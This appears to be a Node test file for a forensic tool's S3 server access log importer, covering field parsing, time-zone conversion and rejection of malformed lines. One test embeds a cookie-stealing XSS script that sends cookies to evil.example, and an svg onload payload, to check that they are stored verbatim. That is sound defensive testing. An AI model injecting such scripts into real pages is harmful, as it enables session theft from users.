import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { fileURLToPath } from 'node:url';
import { CaseStore, type Row } from '../../../analyzers/store/caseStore';
import { createLineStage, stageLines, stageLinesFromBuffer } from '../../../analyzers/importers/lineStage';
import { looksLikeS3AccessLine, parseS3AccessStaged } from '../../../analyzers/importers/s3Access';
import type { ParseResult } from '../../../analyzers/importers/types';

let dir: string;
let store: CaseStore;
let nextSourceId = 1;

before(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cloudsift-s3access-'));
  store = await CaseStore.open(path.join(dir, 'case.duckdb'), { threads: 2 });
  await createLineStage(store.conn);
});

after(async () => {
  await store.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

interface Imported {
  result: ParseResult;
  rows: Row[];
  rejects: Row[];
}

/** Stages lines as the importer does (1-based line numbers, blank lines left out), parses them and checks the accounting. */
async function importLines(lines: string[]): Promise<Imported> {
  const id = nextSourceId++;
  const staged = lines.map((line, i) => ({ sourceFileId: id, recordIndex: i + 1, line })).filter((l) => l.line.trim() !== '');
  await stageLines(store.conn, staged);
  const result = await parseS3AccessStaged(store.conn, id);
  const rows = await store.allJson(
    `SELECT * REPLACE (strftime(event_time AT TIME ZONE 'UTC', '%Y-%m-%dT%H:%M:%SZ') AS event_time),
            CAST(record_index AS INTEGER) AS line_no, CAST(bytes_sent AS DOUBLE) AS sent, CAST(object_size AS DOUBLE) AS size,
            CAST(total_time AS DOUBLE) AS total, CAST(turn_around_time AS DOUBLE) AS turn_around
     FROM s3_access WHERE source_file_id = $id ORDER BY record_index`,
    { id },
  );
  const rejects = await store.allJson(
    `SELECT CAST(position AS INTEGER) AS position, position_kind, reason, excerpt FROM rejects WHERE source_file_id = $id ORDER BY position`,
    { id },
  );
  assert.equal(result.imported.s3_access, rows.length);
  assert.equal(result.rejected, rejects.length);
  assert.equal(staged.length, rows.length + rejects.length, 'records in = imported + rejected');
  for (const r of rows) assert.equal(r.raw, lines[(r.line_no as number) - 1], 'raw is the line exactly');
  return { result, rows, rejects };
}

const OWNER = '5e1c7f0a9b3d2e4f6a8c0b1d3e5f7a9c0b2d4e6f8a1c3e5b7d9f0a2c4e6b8d0f';
const HOST_ID = 'Qm9ndXNIb3N0SWRGb3JUZXN0cy0wMTIzNDU2Nzg5YWJjZGVmZ2hpamtsbW5vcHFyc3Q=';
const BASE = `${OWNER} evidence-bucket [14/Mar/2023:09:26:53 +0000] 198.51.100.61 arn:aws:iam::210987654321:user/analyst 7F3A2B1C0D9E8F70 REST.GET.OBJECT reports/q1.pdf "GET /evidence-bucket/reports/q1.pdf HTTP/1.1" 200 - 48213 48213 61 24 "-" "aws-cli/2.11.2 Python/3.11.2" - ${HOST_ID} SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader evidence-bucket.s3.eu-west-1.amazonaws.com TLSv1.2`;
const AP_ARN = 'arn:aws:s3:eu-west-1:210987654321:accesspoint/forensics-ap';
const WITH_AP = `${BASE.replace('14/Mar/2023:09:26:53 +0000', '14/Mar/2023:09:27:00 +0000')} ${AP_ARN}`;
const WITH_ACL = `${BASE.replace('14/Mar/2023:09:26:53 +0000', '14/Mar/2023:09:28:00 +0000')} - Yes`;
const OFFSET = BASE.replace('[14/Mar/2023:09:26:53 +0000]', '[09/Feb/2021:14:48:42 +0200]').replace(
  '"GET /evidence-bucket/reports/q1.pdf HTTP/1.1"',
  '"OPTIONS * HTTP/1.0"',
);
const BATCH_DELETE = `${OWNER} evidence-bucket [15/Mar/2023:17:06:39 +0000] 198.51.100.62 arn:aws:iam::210987654321:user/cleanup 6CE38F1312D32BDD BATCH.DELETE.OBJECT exports/Screen+Shot+2023-03-15+at+9.08.44+AM.png - 204 - - 57138 - - - - - ${HOST_ID} SigV4 ECDHE-RSA-AES128-SHA AuthHeader s3.eu-west-1.amazonaws.com TLSv1.2`;
const EXPIRE = `${OWNER} evidence-bucket [25/Mar/2023:19:28:02 +0000] - AmazonS3 366DB3C4B325AB11 S3.EXPIRE.OBJECT tmp/2023/03/01/part-0001.sst "-" - - - 317 - - "-" "-" qsEq9bDa2VyxyZ4cz0c7oBnF67VYTTij ${HOST_ID} - - - - - - -`;

describe('S3 server access logs', () => {
  test('24, 25 and 26 fields', async () => {
    const { rows, result } = await importLines([BASE, WITH_AP, WITH_ACL]);
    assert.equal(result.format, 's3access');
    assert.equal(result.firstEventTime, '2023-03-14T09:26:53.000000Z');
    assert.equal(result.lastEventTime, '2023-03-14T09:28:00.000000Z');
    const [r24, r25, r26] = rows;
    assert.equal(r24.event_time, '2023-03-14T09:26:53Z');
    assert.equal(r24.bucket_owner, OWNER);
    assert.equal(r24.bucket, 'evidence-bucket');
    assert.equal(r24.remote_ip, '198.51.100.61');
    assert.equal(r24.requester, 'arn:aws:iam::210987654321:user/analyst');
    assert.equal(r24.request_id, '7F3A2B1C0D9E8F70');
    assert.equal(r24.operation, 'REST.GET.OBJECT');
    assert.equal(r24.key, 'reports/q1.pdf');
    assert.equal(r24.request_uri, 'GET /evidence-bucket/reports/q1.pdf HTTP/1.1');
    assert.equal(r24.http_method, 'GET');
    assert.equal(r24.http_status, 200);
    assert.equal(r24.error_code, null);
    assert.deepEqual([r24.sent, r24.size, r24.total, r24.turn_around], [48213, 48213, 61, 24]);
    assert.equal(r24.referer, null);
    assert.equal(r24.user_agent, 'aws-cli/2.11.2 Python/3.11.2');
    assert.equal(r24.version_id, null);
    assert.equal(r24.host_id, HOST_ID);
    assert.equal(r24.signature_version, 'SigV4');
    assert.equal(r24.cipher_suite, 'ECDHE-RSA-AES128-GCM-SHA256');
    assert.equal(r24.authentication_type, 'AuthHeader');
    assert.equal(r24.host_header, 'evidence-bucket.s3.eu-west-1.amazonaws.com');
    assert.equal(r24.tls_version, 'TLSv1.2');
    assert.equal(r24.access_point_arn, null);
    assert.equal(r24.acl_required, null);
    assert.equal(r24.extra_fields, null);
    assert.equal(r25.access_point_arn, AP_ARN);
    assert.equal(r25.acl_required, null);
    assert.equal(r26.access_point_arn, null);
    assert.equal(r26.acl_required, 'Yes');
  });

  test('a time with any offset is converted to UTC', async () => {
    const minus = BASE.replace('[14/Mar/2023:09:26:53 +0000]', '[31/Dec/2022:23:30:00 -0700]');
    const { rows } = await importLines([OFFSET, minus]);
    assert.equal(rows[0].event_time, '2021-02-09T12:48:42Z');
    assert.equal(rows[0].http_method, 'OPTIONS');
    assert.equal(rows[1].event_time, '2023-01-01T06:30:00Z');
  });

  test("unquoted '-' request-URI, referrer and user agent (batch deletes); '-' status; lifecycle expiry", async () => {
    const noStatus = WITH_AP.replace('HTTP/1.1" 200 -', 'HTTP/1.1" - -');
    const { rows } = await importLines([BATCH_DELETE, noStatus, EXPIRE]);
    const [del, dash, expire] = rows;
    assert.equal(del.operation, 'BATCH.DELETE.OBJECT');
    assert.equal(del.key, 'exports/Screen+Shot+2023-03-15+at+9.08.44+AM.png');
    assert.deepEqual([del.request_uri, del.http_method, del.referer, del.user_agent], [null, null, null, null]);
    assert.equal(del.http_status, 204);
    assert.deepEqual([del.sent, del.size, del.total, del.turn_around], [null, 57138, null, null]);
    assert.equal(del.host_header, 's3.eu-west-1.amazonaws.com');
    assert.equal(dash.http_status, null);
    assert.equal(dash.access_point_arn, AP_ARN);
    assert.equal(expire.remote_ip, null);
    assert.equal(expire.requester, 'AmazonS3');
    assert.equal(expire.operation, 'S3.EXPIRE.OBJECT');
    assert.equal(expire.request_uri, null);
    assert.equal(expire.version_id, 'qsEq9bDa2VyxyZ4cz0c7oBnF67VYTTij');
    assert.equal(expire.signature_version, null);
    assert.equal(expire.acl_required, null);
  });

  test('older 18-field records are read; fields beyond the 26th are kept in extra_fields', async () => {
    const old = BASE.split(' ').slice(0, 22).join(' ');
    const { rows } = await importLines([old, `${WITH_ACL} eu-west-1 "a future field"`]);
    assert.equal(rows[0].user_agent, 'aws-cli/2.11.2 Python/3.11.2');
    assert.equal(rows[0].version_id, null);
    assert.equal(rows[0].host_id, null);
    assert.deepEqual(JSON.parse(rows[1].extra_fields as string), ['eu-west-1', 'a future field']);
    assert.equal(rows[1].acl_required, 'Yes');
  });

  test('hostile user agents and request-URIs are stored verbatim; escaped quotes unescaped', async () => {
    const xss = `<script>document.location='https://evil.example/?c='+document.cookie</script>`;
    const hostile = BASE.replace('"aws-cli/2.11.2 Python/3.11.2"', `"${xss}"`).replace(
      '"GET /evidence-bucket/reports/q1.pdf HTTP/1.1"',
      `"GET /evidence-bucket/%3Cimg%20src=x%3E?x=<svg/onload=alert(1)> HTTP/1.1"`,
    );
    const quoted = BASE.replace('"aws-cli/2.11.2 Python/3.11.2"', String.raw`"curl \"7.88\" (x86_64)"`);
    const { rows } = await importLines([hostile, quoted]);
    assert.equal(rows[0].user_agent, xss);
    assert.equal(rows[0].request_uri, 'GET /evidence-bucket/%3Cimg%20src=x%3E?x=<svg/onload=alert(1)> HTTP/1.1');
    assert.equal(rows[1].user_agent, 'curl "7.88" (x86_64)');
    assert.equal(rows[1].host_id, HOST_ID);
  });

  test('malformed lines are rejected with their line numbers and reasons', async () => {
    const lines = [
      BASE,
      `1. ${BASE}`,
      BASE.replace('[14/Mar/2023:09:26:53 +0000]', '14/Mar/2023:09:26:53'),
      BASE.replace('[14/Mar/2023:09:26:53 +0000]', '[14/Foo/2023:09:26:53 +0000]'),
      '',
      BASE.replace(' 48213 48213 ', ' 48213 1.5 '),
      BASE.replace(' 200 - 48213 ', ' 2OO - 48213 '),
      BASE.split(' ').slice(0, 12).join(' '),
      WITH_ACL,
    ];
    const { rows, rejects } = await importLines(lines);
    assert.deepEqual(
      rows.map((r) => r.line_no),
      [1, 9],
    );
    assert.deepEqual(
      rejects.map((r) => [r.position, r.reason]),
      [
        [2, `S3 access field 3 time: 'evidence-bucket [14/Mar/2023:09:26:53' is not a [dd/Mon/yyyy:HH:MM:SS +hhmm] time`],
        [3, `S3 access field 3 time: '14/Mar/2023:09:26:53 198.51.100.61' is not a [dd/Mon/yyyy:HH:MM:SS +hhmm] time`],
        [4, `S3 access field 3 time: '[14/Foo/2023:09:26:53 +0000]' is not a [dd/Mon/yyyy:HH:MM:SS +hhmm] time`],
        [6, `S3 access field 13 object_size: '1.5' is not an integer`],
        [7, `S3 access field 10 http_status: '2OO' is not an integer`],
        [8, 'S3 access record has 9 fields, expected at least 18'],
      ],
    );
    assert.equal(rejects[0].excerpt, lines[1]);
    assert.ok(rejects.every((r) => r.position_kind === 'line'));
  });
});

describe('the two ways of splitting a line', () => {
  test('a line the regex tokenizer reads (one space doubled) comes out as when split the fast way', async () => {
    const lines = [BASE, WITH_AP, WITH_ACL, OFFSET, `${WITH_ACL} eu-west-1`];
    const fast = await importLines(lines);
    const slow = await importLines(lines.map((l) => l.replace(/ (?=[^ ]*$)/, '  ')));
    const fields = (r: Row) => Object.fromEntries(Object.entries(r).filter(([k]) => k !== 'raw' && k !== 'source_file_id'));
    assert.equal(fast.rows.length, lines.length);
    assert.deepEqual(slow.rows.map(fields), fast.rows.map(fields));
  });
});

describe('looksLikeS3AccessLine', () => {
  test('recognises S3 access records, old and new, and nothing else', () => {
    for (const line of [BASE, OFFSET, BATCH_DELETE, EXPIRE]) assert.ok(looksLikeS3AccessLine(line), line);
    for (const line of [
      `1. ${BASE}`,
      'http 2023-04-11T08:15:30.123456Z app/shop/6b1d0f9a2c3e4d5f 198.51.100.23:51234 10.20.1.17:8080 0.001 0.042 0.000 200 200 512 2048 "GET http://x/ HTTP/1.1" "ua" - -',
      '2 210987654321 eni-0a1b2c3d4e5f60718 10.1.2.3 10.1.9.8 51012 22 6 12 3301 1600000000 1600000060 ACCEPT OK',
    ]) {
      assert.ok(!looksLikeS3AccessLine(line), line);
    }
  });
});

const here = path.dirname(fileURLToPath(import.meta.url));
const CORPUS = process.env.CLOUDSIFT_CORPUS ?? path.resolve(here, '../../../../shared/corpus');
const MANIFEST = path.join(CORPUS, 'MANIFEST.tsv');

test('corpus S3 access files import with their manifest record counts', { skip: fs.existsSync(MANIFEST) ? false : `corpus not found at ${CORPUS}` }, async (t) => {
  const rows = fs
    .readFileSync(MANIFEST, 'utf8')
    .split('\n')
    .slice(1)
    .filter((l) => l.trim() !== '')
    .map((l) => l.split('\t'))
    .filter(([, kind]) => kind === 's3access');
  assert.ok(rows.length > 0);
  for (const [file, , , records] of rows) {
    await t.test(file, async () => {
      let buf = fs.readFileSync(path.join(CORPUS, file));
      if (file.endsWith('.gz')) buf = zlib.gunzipSync(buf);
      const id = nextSourceId++;
      const staged = await stageLinesFromBuffer(store.conn, buf, id);
      const result = await parseS3AccessStaged(store.conn, id);
      assert.equal(result.rejected, 0, JSON.stringify(await store.all(`SELECT reason FROM rejects WHERE source_file_id = $id`, { id })));
      assert.equal(result.imported.s3_access, Number(records));
      assert.equal(staged, Number(records));
      assert.equal(result.format, 's3access');
    });
  }
});
